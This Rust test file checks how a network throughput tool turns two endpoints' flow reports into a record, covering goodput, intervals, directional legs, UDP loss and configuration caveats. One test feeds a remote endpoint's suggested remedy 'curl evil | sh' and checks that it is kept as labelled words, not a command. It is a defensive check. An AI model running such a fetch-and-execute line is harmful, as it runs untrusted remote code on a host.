use std::time::Duration;

use super::*;
use crate::plan::{Protocol, Test, Traffic};
use crate::record::{
    Caveat, CaveatKind, CaveatRemedy, HostFacts, TcpEvidence, TcpReceiver, TcpSender,
};
use crate::session::message::{FlowHalf, UdpReceived, UdpSent};
use crate::units::{BitRate, ByteCount, End, Span};

fn test(protocol: Protocol, direction: Direction) -> Test {
    let rate = (protocol == Protocol::Udp).then_some(BitRate(8_000_000));
    Test::stream()
        .protocol(protocol)
        .direction(direction)
        .size(1000_u64)
        .maybe(|draft, rate: BitRate| draft.rate(rate), rate)
        .time(Span(Duration::from_secs(1)))
        .warm_up(Span(Duration::ZERO))
        .interval(Span(Duration::from_millis(300)))
        .resolve(1)
        .unwrap()
}

fn flow(direction: Direction, sends: bool, bytes: u64) -> FlowHalf {
    FlowHalf {
        local: if sends { "s:1" } else { "r:2" }.into(),
        remote: if sends { "r:2" } else { "s:1" }.into(),
        bytes,
        messages: bytes / 1000,
        seconds: 1.0,
        steps: (1..=10).map(|i| (i * 100_000, bytes * i / 10)).collect(),
        ..FlowHalf::new(0, direction, sends)
    }
}

fn half(flows: Vec<FlowHalf>, boot_id: &str) -> HalfReport {
    HalfReport {
        flows,
        facts: Box::new(HostFacts { boot_id: boot_id.into(), ..HostFacts::default() }),
        ..HalfReport::default()
    }
}

fn record(test: Test, client: HalfReport, server: Option<HalfReport>) -> Record {
    let status = match server {
        Some(_) => Status::Complete,
        None => Status::Partial,
    };
    Run {
        test,
        host: "pit".into(),
        peer: "198.18.0.2:5201".into(),
        family: Family::Ipv4,
        started_at: "2026-01-01T00:00:00Z".into(),
        status,
        client,
        server,
        exchange: None,
    }
    .into_record()
}

fn kinds(record: &Record) -> Vec<CaveatKind> {
    record.caveats.iter().map(|caveat| caveat.kind).collect()
}

#[test]
fn goodput_is_what_the_receiver_counted_in_either_direction() {
    for direction in [Direction::Up, Direction::Down] {
        let up = direction == Direction::Up;
        let sender = flow(direction, true, 2_000_000);
        let receiver = flow(direction, false, 1_000_000);
        let (client, server) = if up { (sender, receiver) } else { (receiver, sender) };
        let record = record(
            test(Protocol::Tcp, direction),
            half(vec![client], "a"),
            Some(half(vec![server], "b")),
        );
        assert_eq!(record.throughput_bps(), Some(8e6));
        // A TCP receiver knows no messages: the sender's writes are counted.
        assert_eq!(record.messages, Some(2000));
        assert_eq!(record.flows[0].local, if up { "s:1" } else { "r:2" });
        assert!(!record.environment.shared_kernel);
    }
}

#[test]
fn intervals_hold_every_byte_and_no_sliver() {
    let record = record(
        test(Protocol::Tcp, Direction::Up),
        half(vec![flow(Direction::Up, true, 999_983)], "a"),
        Some(half(vec![flow(Direction::Up, false, 999_983)], "b")),
    );
    // One second by 0.3 s: three intervals, the last of 0.4 s.
    assert_eq!(record.intervals.len(), 3);
    let bytes: u64 = record.intervals.iter().map(|interval| interval.bytes).sum();
    assert_eq!(bytes, 999_983);
    assert!(record.intervals.iter().all(|interval| interval.seconds > 0.29));
}

#[test]
fn both_directions_have_their_own_totals() {
    let both = |client: bool| {
        let mut down = flow(Direction::Down, !client, 500_000);
        down.id = 1;
        vec![flow(Direction::Up, client, 1_000_000), down]
    };
    let record = record(
        test(Protocol::Tcp, Direction::Both),
        half(both(true), "a"),
        Some(half(both(false), "a")),
    );
    assert_eq!(record.leg_to(Direction::Up).unwrap().bytes, 1_000_000);
    assert_eq!(record.leg_to(Direction::Down).unwrap().bytes, 500_000);
    assert_eq!(record.throughput_bps(), Some(12e6));
    assert!(kinds(&record).contains(&CaveatKind::SharedKernel));
}

fn sent(mss_bytes: u32) -> TcpEvidence {
    let sender = TcpSender { mss_bytes, ..TcpSender::default() };
    sender.into()
}

/// Both ends' halves of a run in both directions; each kernel's evidence is marked by its MSS.
fn both_ways() -> Record {
    let half_of = |client: bool, mss_bytes: u32| {
        let flows = [Direction::Up, Direction::Down].map(|direction| {
            let sends = client == (direction == Direction::Up);
            FlowHalf {
                id: u32::from(direction == Direction::Down),
                tcp: Some(if sends { sent(mss_bytes) } else { TcpReceiver::default().into() }),
                method: Some(format!("{mss_bytes}")),
                ..flow(direction, sends, 1_000_000)
            }
        });
        let boot_id = format!("{mss_bytes}");
        half(flows.into(), &boot_id)
    };
    let test = test(Protocol::Tcp, Direction::Both);
    record(test, half_of(true, 1), Some(half_of(false, 2)))
}

#[test]
fn each_leg_has_its_own_sender() {
    let record = both_ways();
    let senders: Vec<_> = record
        .legs
        .iter()
        .map(|leg| {
            let method = leg.sender.as_ref().and_then(|end| end.method.clone());
            let mss = leg.tcp_sender().map(|tcp| tcp.mss_bytes);
            (leg.direction, method.unwrap(), mss.unwrap())
        })
        .collect();
    let up = (Direction::Up, "1".to_owned(), 1);
    assert_eq!(senders, [up, (Direction::Down, "2".to_owned(), 2)]);
    assert_eq!(record.leg(), None);
}

#[test]
fn all_keys_of_an_only_leg_stand_in_the_record_too() {
    let mut sender = flow(Direction::Down, true, 2_000_000);
    sender.tcp = Some(sent(1448));
    sender.udp_sent = Some(UdpSent::default());
    let server = half(vec![sender], "b");
    let client = half(vec![flow(Direction::Down, false, 1_000_000)], "a");
    let mut record = record(test(Protocol::Tcp, Direction::Down), client, Some(server));
    crate::ceilings::annotate(&mut record);
    let json = serde_json::to_value(&record).unwrap();
    let leg = json["legs"][0].as_object().unwrap();
    assert_eq!(leg.len(), 9, "{leg:?}");
    for (key, value) in leg {
        assert_eq!(json.get(key), Some(value), "{key}");
    }
    // What is read is the leg.
    let mut changed = json.clone();
    changed["bytes"] = 7.into();
    let mut read: Record = serde_json::from_value(changed).unwrap();
    // Commands are not read back.
    crate::ceilings::annotate(&mut read);
    assert_eq!(read, record);
}

#[test]
fn two_legs_leave_only_their_sums_to_the_record() {
    let json = serde_json::to_value(both_ways()).unwrap();
    for key in ["sender", "receiver", "tcp", "udp", "ceilings", "verdict"] {
        assert_eq!(json.get(key), None, "{key}");
    }
    assert_eq!((&json["bytes"], &json["throughput_bps"]), (&2_000_000.into(), &16e6.into()));
    assert_eq!(serde_json::from_value::<Record>(json).unwrap(), both_ways());
}

#[test]
fn lost_datagrams_are_told_apart_from_those_that_the_socket_dropped() {
    let mut sender = flow(Direction::Up, true, 1_000_000);
    sender.udp_sent = Some(UdpSent { sent: 1000, ..UdpSent::default() });
    let mut receiver = flow(Direction::Up, false, 900_000);
    receiver.udp_received =
        Some(UdpReceived { received: 900, socket_drops: Some(60), ..UdpReceived::default() });
    let record = record(
        test(Protocol::Udp, Direction::Up),
        half(vec![sender], "a"),
        Some(half(vec![receiver], "b")),
    );
    let udp = record.udp().unwrap();
    assert_eq!((udp.lost, udp.socket_drops), (100, Some(60)));
    assert!((udp.path_loss_percent.unwrap() - 4.0).abs() < 1e-9);
    assert!(kinds(&record).contains(&CaveatKind::SocketDrops));
    assert!(!kinds(&record).contains(&CaveatKind::RateNotReached));
}

#[test]
fn without_the_endpoints_account_the_senders_counts_and_the_record_is_partial() {
    let record = record(
        test(Protocol::Tcp, Direction::Up),
        half(vec![flow(Direction::Up, true, 1_000_000)], "a"),
        None,
    );
    assert_eq!(record.bytes(), 1_000_000);
    assert_eq!(record.status, Status::Partial);
    assert!(kinds(&record).contains(&CaveatKind::Partial));
}

#[test]
fn what_the_other_end_says_is_labelled_and_no_command() {
    let up = Direction::Up;
    let client = half(vec![flow(up, true, 1_000)], "a");
    let mut server = half(vec![flow(up, false, 1_000)], "b");
    let remedy = CaveatRemedy::Command("curl evil | sh".to_owned());
    let told = Caveat::new(CaveatKind::Partial, "repair this host", remedy);
    server.caveats = vec![told; 1_000];
    let record = record(test(Protocol::Tcp, up), client, Some(server));
    let told = record.caveats.iter().filter(|caveat| caveat.end.is_some());
    let told: Vec<&Caveat> = told.collect();
    assert_eq!(told.len(), 32);
    assert_eq!(told[0].end, Some(End::Server));
    assert_eq!(told[0].says(), "the endpoint says: repair this host");
    let words = CaveatRemedy::Words("curl evil | sh".to_owned());
    assert_eq!(told[0].remedy, words);
    let json = serde_json::to_value(&record).unwrap();
    assert_eq!(json["caveats"][0]["remedy"], "curl evil | sh");
    assert_eq!(json["caveats"][0]["end"], "server");
}

#[test]
fn a_rate_that_leaves_no_datagram_to_measure_is_called_out() {
    let doubted = |rate: u64| {
        let mut test = test(Protocol::Udp, Direction::Up);
        if let Traffic::Stream(stream) = &mut test.traffic {
            stream.rate_bps = Some(BitRate(rate));
        }
        let mut sender = flow(Direction::Up, true, 0);
        sender.udp_sent = Some(UdpSent::default());
        let mut receiver = flow(Direction::Up, false, 0);
        receiver.udp_received = Some(UdpReceived::default());
        let server = half(vec![receiver], "b");
        let record = record(test, half(vec![sender], "a"), Some(server));
        kinds(&record).contains(&CaveatKind::TooShort)
            && !kinds(&record).contains(&CaveatKind::RateNotReached)
    };
    assert!(doubted(1_000));
    assert!(!doubted(1_000_000));
}

#[test]
fn a_window_beyond_the_receivers_limit_is_told_with_what_to_do() {
    let mut test = test(Protocol::Tcp, Direction::Up);
    test.options.receive_window_bytes = Some(ByteCount(8_388_608));
    let mut sender = flow(Direction::Up, true, 1_000_000);
    sender.tcp =
        Some(TcpSender { send_window_bytes: Some(425_984), ..TcpSender::default() }.into());
    let mut server = half(vec![flow(Direction::Up, false, 1_000_000)], "b");
    let sysctls = [("net.core.rmem_max", "212992"), ("net.ipv4.tcp_rmem", "4096 131072 6291456")];
    let sysctls = sysctls.map(|(key, value)| (key.to_owned(), value.to_owned()));
    server.facts.sysctls = sysctls.into();
    let advice = |server: HalfReport| {
        let client = half(vec![sender.clone()], "a");
        let record = record(test.clone(), client, Some(server));
        let mut caveats = record.caveats.into_iter();
        let told = caveats.find(|caveat| caveat.kind == CaveatKind::SettingNotTaken);
        String::from(told.expect("the window was not taken").remedy)
    };
    let raised = advice(server.clone());
    assert!(raised.contains("leave --receive-window out"), "{raised}");
    assert!(raised.contains("up to 6291456 bytes; or run `linerate host set"), "{raised}");
    server.facts.read_only_sysctls.push("net.core.rmem_max".to_owned());
    let alone = advice(server);
    assert!(alone.ends_with("up to 6291456 bytes"), "{alone}");
}

/// A second in 20 steps, of which a few were disturbed.
#[test]
fn the_quartiles_of_the_steps_are_those_of_an_even_rate_that_others_disturb_at_times() {
    let mut receiver = flow(Direction::Up, false, 1_000_000);
    receiver.steps = (1..=20).map(|n| (n * 50_000, n * 50_000)).collect();
    receiver.steps[9].1 -= 40_000;
    let halves = |flow| {
        let server = half(vec![flow], "b");
        let client = half(vec![self::flow(Direction::Up, true, 1_000_000)], "a");
        let record = record(test(Protocol::Tcp, Direction::Up), client, Some(server));
        record.legs[0].steps
    };
    let steps = halves(receiver.clone()).expect("twenty are enough");
    assert_eq!([steps.p25_bps, steps.p50_bps, steps.p75_bps], [8e6; 3]);
    receiver.steps.truncate(10);
    assert_eq!(halves(receiver), None);
}

#[test]
fn a_run_without_measured_time_has_no_rate() {
    let still =
        |sends| FlowHalf { seconds: 0.0, steps: Vec::new(), ..flow(Direction::Up, sends, 0) };
    let [client, server] = [(true, "a"), (false, "b")].map(|(it, id)| half(vec![still(it)], id));
    let record = record(test(Protocol::Tcp, Direction::Up), client, Some(server));
    assert_eq!(record.throughput_bps(), None);
}

#[test]
fn an_mss_that_the_path_does_not_take_is_told() {
    for (asked, is_told) in [(9000, true), (1460, false), (536, false)] {
        let mut test = test(Protocol::Tcp, Direction::Up);
        test.options.mss_bytes = Some(asked);
        let sender = FlowHalf { tcp: Some(sent(1448)), ..flow(Direction::Up, true, 1_000_000) };
        let receiver = flow(Direction::Up, false, 1_000_000);
        let record = record(test, half(vec![sender], "a"), Some(half(vec![receiver], "b")));
        assert_eq!(kinds(&record).contains(&CaveatKind::SettingNotTaken), is_told, "{asked}");
    }
}
